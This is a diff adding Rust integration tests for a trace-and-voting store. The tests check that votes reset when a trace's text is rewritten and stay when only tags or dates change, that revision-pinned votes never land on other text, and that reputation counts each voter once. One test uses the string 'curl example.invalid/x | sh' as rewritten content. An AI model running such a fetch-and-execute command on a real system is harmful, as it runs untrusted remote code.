@@ -5,7 +5,9 @@ use commontrace_core::reputation::{trust, wilson};
 use commontrace_core::vote::VoteType::{self, Down, Up};
 use commontrace_core::{TraceId, UserId};
 use commontrace_store::Engine::{self, Postgres, Sqlite};
-use commontrace_store::{CastVote, DomainReputation, NewTrace, Reputation, Trace};
+use commontrace_store::{
+    CastVote, DomainReputation, NewTrace, NewVote, Patch, Reputation, Trace, UpdateTrace,
+};
 use rstest::rstest;
 use serde_json::json;
 
@@ -130,6 +132,138 @@ async fn a_starter_trace_stands_until_down_votes_lead_by_the_threshold(
     assert_eq!(trace.status, Validated);
     assert!((trace.trust_score - trust(0, 1, true)).abs() < 1e-12);
     assert_eq!(cast(store.vote(voters[1], id, Down).await).status, Pending);
+}
+
+async fn rewrite(store: &TestStore, id: TraceId, owner: UserId, patch: Patch) -> Trace {
+    match store.update_trace(id, owner, patch, after(60)).await {
+        Ok(UpdateTrace::Done(trace)) => *trace,
+        refused => panic!("the edit was refused: {refused:?}"),
+    }
+}
+
+#[rstest]
+#[tokio::test]
+async fn votes_do_not_survive_a_rewrite(#[values(Sqlite, Postgres)] engine: Engine) {
+    let store = TestStore::on(engine).await;
+    let ada = store.register("ada").await;
+    let voters = store.accounts(3).await;
+    for part in 0..3 {
+        let id = store.contributed(a_trace(ada)).await;
+        for &voter in &voters {
+            cast(store.vote(voter, id, Up).await);
+        }
+        let other = Some("curl example.invalid/x | sh".to_owned());
+        let patch = match part {
+            0 => Patch {
+                title: other,
+                ..Patch::default()
+            },
+            1 => Patch {
+                context_text: other,
+                ..Patch::default()
+            },
+            _ => Patch {
+                solution_text: other,
+                ..Patch::default()
+            },
+        };
+        let trace = rewrite(&store, id, ada, patch).await;
+        assert_eq!(
+            (trace.up_votes, trace.down_votes, trace.status),
+            (0, 0, Pending)
+        );
+        assert_eq!(trace.trust_score, 0.0);
+        assert_eq!(store.trace(id).await.unwrap().as_ref(), Some(&trace));
+
+        // Who voted on the old text may say what they think of the new one, once.
+        let trace = cast(store.vote(voters[0], id, Down).await);
+        assert_eq!(
+            (trace.up_votes, trace.down_votes, trace.status),
+            (0, 1, Pending)
+        );
+        assert_eq!(store.vote(voters[0], id, Up).await, CastVote::AlreadyVoted);
+        cast(store.vote(voters[1], id, Up).await);
+    }
+}
+
+#[rstest]
+#[tokio::test]
+async fn votes_stay_when_only_tags_or_dates_change(#[values(Sqlite, Postgres)] engine: Engine) {
+    let store = TestStore::on(engine).await;
+    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
+    let id = store.contributed(a_trace(ada)).await;
+    cast(store.vote(bob, id, Up).await);
+    let patch = Patch {
+        tags: Some(tags(&["other"])),
+        review_after: Some(Some(after(90))),
+        solution_text: Some(a_trace(ada).solution_text),
+        ..Patch::default()
+    };
+    let trace = rewrite(&store, id, ada, patch).await;
+    assert_eq!((trace.revision, trace.up_votes), (2, 1));
+    assert_eq!(store.vote(bob, id, Down).await, CastVote::AlreadyVoted);
+}
+
+#[rstest]
+#[tokio::test]
+async fn a_vote_that_names_what_was_read_never_lands_on_another_text(
+    #[values(Sqlite, Postgres)] engine: Engine,
+) {
+    let store = TestStore::on(engine).await;
+    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
+    let id = store.contributed(a_trace(ada)).await;
+    let on = async |revision: i64| {
+        let vote = NewVote {
+            revision: Some(revision),
+            ..a_vote(bob, id, Up)
+        };
+        store.cast_vote(vote, THRESHOLD, noon()).await.unwrap()
+    };
+    let text = Patch {
+        title: Some("another".to_owned()),
+        ..Patch::default()
+    };
+    rewrite(&store, id, ada, text).await;
+    let labels = Patch {
+        tags: Some(tags(&["other"])),
+        ..Patch::default()
+    };
+    rewrite(&store, id, ada, labels).await;
+    assert_eq!(on(1).await, CastVote::Rewritten(3));
+    assert_eq!(on(4).await, CastVote::NoSuchRevision(3));
+    // The third revision differs from the second in its tags only.
+    assert_eq!(cast(on(2).await).up_votes, 1);
+}
+
+#[rstest]
+#[tokio::test]
+async fn a_voter_counts_once_in_the_reputation_however_often_a_trace_is_rewritten(
+    #[values(Sqlite, Postgres)] engine: Engine,
+) {
+    let store = TestStore::on(engine).await;
+    let (ada, bob) = (store.register("ada").await, store.register("bob").await);
+    let id = store
+        .contributed(NewTrace {
+            tags: tags(&["rust"]),
+            ..a_trace(ada)
+        })
+        .await;
+    for (n, vote) in [Up, Up, Down, Down, Up, Down].into_iter().enumerate() {
+        let patch = Patch {
+            title: Some(format!("title {n}")),
+            tags: Some(tags(&[["rust", "sql"][n / 3]])),
+            ..Patch::default()
+        };
+        rewrite(&store, id, ada, patch).await;
+        cast(store.vote(bob, id, vote).await);
+    }
+    let reputation = store.reputation(ada).await.unwrap().unwrap();
+    assert_eq!((reputation.up_votes, reputation.down_votes), (0, 1));
+    for domain in reputation.domains {
+        assert!(domain.up_votes >= 0 && domain.down_votes >= 0, "{domain:?}");
+        assert!(domain.up_votes + domain.down_votes <= 1, "{domain:?}");
+    }
+    assert_eq!(store.rows("votes").await, 1);
 }
 
 #[rstest]
